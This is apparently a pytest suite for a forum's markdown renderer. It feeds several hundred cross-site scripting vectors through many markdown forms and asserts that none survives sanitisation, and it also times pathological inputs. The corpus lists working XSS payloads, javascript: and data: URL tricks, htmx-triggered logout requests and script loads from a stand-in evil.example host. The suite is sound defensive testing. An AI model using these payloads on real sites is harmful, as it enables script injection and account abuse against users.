"""Nothing that somebody writes runs in another's browser, or keeps the server busy.

A corpus of known vectors, each put through every way of writing something.
"""

import time
from functools import partial
from html.parser import HTMLParser
from timeit import repeat
from urllib.parse import urlsplit

import pytest

from network.markdown import plain_text, render

SCRIPTS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x" onerror="&#97;lert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)">
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<style>@import "//evil.example/x.css"; *{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="position:fixed;inset:0">over all</div>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a onclick=alert(1)>x</a>
<a id="reply" name="csrfmiddlewaretoken">x</a>
<p hx-get="/account/logout/" hx-trigger="load">x</p>
<p data-hx-post="/people/anna/block/" data-hx-trigger="load">x</p>
<p data-module="//evil.example/x.js">x</p>
<button data-confirm="x" form="x">x</button>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<!--<img src="--><img src=x onerror=alert(1)>">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>
<template><img src=x onerror=alert(1)></template>
<xss onmouseover=alert(1) style=display:block>x</xss>
<img/src/onerror=alert(1)>
<img src=x:x onerror\x0c=alert(1)>
<<img src=x onerror=alert(1)//<
"><img src=x onerror=alert(1)>
'><script>alert(1)</script>
</textarea><script>alert(1)</script>
</div></article></main><script>alert(1)</script>
\x00<script>alert(1)</script>
＜script＞alert(1)＜/script＞
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
""".strip().splitlines()

ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript&#x3a;alert(1)
&#106;avascript:alert(1)
&#x6A;avascript:alert(1)
java\\script:alert(1)
java%0ascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
%6aavascript:alert(1)
\x01javascript:alert(1)
&#1;javascript:alert(1)
&nbsp;javascript:alert(1)
javascript://example.org/%0aalert(1)
javascript:/*--></title></style></textarea>*/alert(1)
vbscript:msgbox(1)
livescript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
data:image/gif;base64,R0lGODlhAQABAAAAACw=
file:///etc/passwd
blob:https://example.org/x
filesystem:https://example.org/x
view-source:javascript:alert(1)
feed:javascript:alert(1)
mhtml:http://evil.example/x
jar:javascript:alert(1)
ws://evil.example/
intent://evil.example/#Intent;scheme=http;end
tel:112
""".strip().splitlines()

FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "![x](<{}>)",
    "<{}>",
    "{}",
    "[x][1]\n\n[1]: {}",
    "[1]\n\n[1]: <{}>",
    "[![x]({0})]({0})",
    "x[^1]\n\n[^1]: [y]({})",
    "| a |\n|---|\n| [x]({}) |",
    "> [x]({})",
    "- [x]({})",
]

TRICKS = """
[x](javascript:alert(1) "t" onmouseover="alert(1)")
[x](http://a" onmouseover="alert(1))
[x](<http://a" onmouseover="alert(1)>)
[x](http://a "t\\" onmouseover=\\"alert(1)")
![x" onerror="alert(1)](http://a)
![x](http://a" onerror="alert(1))
![](attachment:1" onerror="alert(1))
![](attachment:1)
[x](attachment:1)
```"><img/src=x/onerror=alert(1)>
```js" onload="alert(1)
`<script>alert(1)</script>`
# <script>alert(1)</script>
| <script>alert(1)</script> |
**<script>alert(1)</script>**
~~<img src=x onerror=alert(1)>~~
<http://a" onmouseover="alert(1)>
<a@b.c" onmouseover="alert(1)>
http://a.example/"onmouseover="alert(1)
www.a.example/'onmouseover='alert(1)
[a]: javascript:alert(1) [a]
[^"><script>alert(1)</script>]: x
x[^"onx=]  [^"onx=]: y
:"><script>alert(1)</script>:
:tada" onx=":
@anna"><script>alert(1)</script>
@<script>alert(1)</script>
@javascript:alert(1)
> /forums/thread/1/1/"><script>alert(1)</script>
> /forums/thread/1/1/
> <span data-person="1"></span>
<span data-person="1"></span>
<aside data-quote="0"></aside>
`<aside data-quote="0"></aside>`
[<span data-person="1"></span>](http://a.example/)
[x](http://a.example/ 'data-card="1"')
\\<script>alert(1)</script>
[\\]](javascript:alert(1))
[x](\\javascript:alert(1))
<javascript:alert(1)>
<script>alert(1)//
*<img src=x onerror=alert(1)>*
1. <img src=x onerror=alert(1)>
    <script>alert(1)</script>
&NotEqualTilde;<script>alert(1)</script>
""".strip().splitlines()

CORPUS = [
    *SCRIPTS,
    *(form.format(address) for address in ADDRESSES for form in FORMS),
    *TRICKS,
]
SCHEMES = {"", "http", "https", "mailto"}
NAMES = {
    "a": {"href", "title", "id", "class", "rel"},
    "img": {"src", "alt", "width", "height", "loading"},
    "code": {"class"},
    "div": {"class", "tabindex"},
    "pre": {"tabindex"},
    "ol": {"class", "start"},
    "li": {"id"},
    "td": {"class"},
    "th": {"class"},
    "figure": {"class"},
}


class Looks(HTMLParser):
    """Reads the HTML as a browser does and collects what should not be there."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name not in NAMES.get(tag, ()):
                self.bad.append((tag, name, value))
            if name in {"href", "src"}:
                scheme = urlsplit((value or "").strip()).scheme
                if scheme not in SCHEMES:
                    self.bad.append((tag, name, value))
        if tag in {"script", "style", "iframe", "svg", "math", "form", "input", "base"}:
            self.bad.append(tag)
        if tag == "img":
            self.bad.append("a picture from elsewhere")

    def handle_comment(self, data):
        self.bad.append(data)


def what_runs_in(html: str) -> list:
    looks = Looks()
    looks.feed(html)
    looks.close()
    return looks.bad


def test_the_corpus_is_a_real_one():
    assert len(set(CORPUS)) > 500


@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "x[^1]\n\n[^1]: {}", "*{}*"])
def test_no_vector_survives_in_any_place(around):
    alive = {}
    for vector in CORPUS:
        bad = what_runs_in(render(around.format(vector), docId="1-2"))
        if bad:
            alive[vector] = bad
    assert alive == {}


def test_words_for_mail_and_search_hold_no_element():
    for vector in SCRIPTS:
        text = plain_text(f"hello {vector}")
        assert text.startswith("hello")


N = 20_000  # as long as a post may be
HEAVY = [
    "[", "![", "[]", "[](", "[a](", "](", "[[]", "*", "**a", "*a_", "_a ", "~~a", "`a",
    "<", "<a ", "&", "\\", "|", "|a", "> ", ">", "- ", "1. ", "# ", "  - a\n",
    ":a", ":a:", "@a ", "@", "a@b.", "www.", "http://a.b/", "http://a.b/(", "a\n===\n",
    "![](attachment:1)",
    "[^a]", "[^a]: x\n", "```\n", "~~~\n> ", "\t", "\n", "&#106;", "|a|b|\n|-|-|\n",
    "> /forums/thread/1/1/\n> a\n\n", "> /forums/thread/1/1/\n", "[a]: /b\n",
]  # fmt: skip


@pytest.mark.parametrize("piece", HEAVY)
def test_the_worst_post_there_can_be_is_made_in_seconds(piece):
    begun = time.process_time()
    render((piece * N)[:N], docId="1-2")
    assert time.process_time() - begun < 4


def test_brackets_cost_so_much_each_however_many_there_are():
    def seconds(brackets):  # of the best of three, without collecting garbage
        made = partial(render, "[" * brackets)
        return min(repeat(made, timer=time.process_time, number=1, repeat=3))

    assert seconds(100_000) < 10 * seconds(25_000)


def test_a_thousand_lists_in_each_other_end_somewhere():
    deep = "".join("  " * level + "- a\n" for level in range(1000))
    assert render(deep).count("<ul>") < 100
    assert render(">" * 1000 + " a").count("<blockquote>") < 100
